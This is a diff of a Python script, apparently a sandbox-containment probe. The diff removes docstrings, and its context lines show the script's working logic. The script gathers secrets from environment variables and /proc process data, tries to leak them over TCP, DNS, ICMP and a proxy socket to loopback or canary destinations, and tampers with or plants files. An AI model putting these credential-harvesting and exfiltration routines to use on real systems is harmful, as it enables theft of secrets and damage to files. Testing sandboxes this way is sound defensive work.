@@ -26,7 +26,6 @@ MOST_READ = 1 << 20
 
 
 def attempt(done, name, work):
-    """Do something forbidden and remember that it worked."""
     try:
         work()
     except Exception:
@@ -38,7 +37,6 @@ def attempt(done, name, work):
 
 
 def readable(path):
-    """Read a file without ever waiting for it."""
     descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
     try:
         return os.read(descriptor, MOST_READ)
@@ -47,7 +45,6 @@ def readable(path):
 
 
 def places():
-    """Name what may hold a secret: environments, command lines, and files of the operator."""
     for number in os.listdir("/proc"):
         if number.isdigit():
             for part in ("environ", "cmdline"):
@@ -60,7 +57,6 @@ def places():
 
 
 def stolen():
-    """Find every secret within reach."""
     found = set(SECRET.findall(repr(dict(os.environ)).encode()))
     for path in places():
         with contextlib.suppress(OSError):
@@ -72,13 +68,11 @@ def stolen():
 
 
 def dns_question(words):
-    """Write a TXT question whose name carries the words."""
     name = b"".join(bytes([len(part)]) + part for part in (words[:60], b"canary", b"invalid"))
     return struct.pack("!6H", 4711, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!2H", 16, 1)
 
 
 def send(family, kind, address, words):
-    """Say the words to a listener, who answers."""
     with socket.socket(family, kind) as client:
         client.settimeout(2)
         client.connect(address)
@@ -92,7 +86,6 @@ def send(family, kind, address, words):
 
 
 def ping(family, protocol, kind, address, words):
-    """Send an echo request that carries the words."""
     head = struct.pack("!BBHHH", kind, 0, 0, AIM["echo"], 1)
     body = words + b"\0" * (len(words) % 2)
     total = sum(struct.unpack(f"!{(len(head) + len(body)) // 2}H", head + body))
@@ -111,7 +104,6 @@ def pushed(words):
 
 
 def relayed(words):
-    """Push through the socket of the way to the package index."""
     with socket.socket(socket.AF_UNIX) as client:
         client.settimeout(2)
         client.connect("/sandbox/proxy.sock")
@@ -124,7 +116,6 @@ def relayed(words):
 
 
 def ways_out(words):
-    """Give every way out by its name."""
     inet, inet6, unix = socket.AF_INET, socket.AF_INET6, socket.AF_UNIX
     stream, datagram = socket.SOCK_STREAM, socket.SOCK_DGRAM
     yield "tcp", lambda: send(inet, stream, ("127.0.0.1", AIM["tcp"]), words)
@@ -151,7 +142,6 @@ def ways_out(words):
 
 
 def spoil(path):
-    """Change a file, whatever it takes."""
     with contextlib.suppress(OSError):
         os.chmod(path, 0o666)
     with open(path, "ab") as file:
@@ -159,7 +149,6 @@ def spoil(path):
 
 
 def plant(folder):
-    """Leave a file that was not there."""
     path = os.path.join(folder, "planted-by-" + LABEL.replace(" ", "-"))
     os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666))
 
@@ -170,7 +159,6 @@ def open_to_write(path):
 
 
 def damage():
-    """Give everything that could be damaged by its name."""
     for path in AIM["spoil"]:
         yield "spoil " + path, lambda at=path: spoil(at)
     for folder in AIM["plant"]:
@@ -180,7 +168,6 @@ def damage():
 
 
 def main():
-    """Try all of it and leave the evidence."""
     done = []
     loot = stolen()
     words = ("{} {}".format(LABEL, " ".join(loot))).encode()
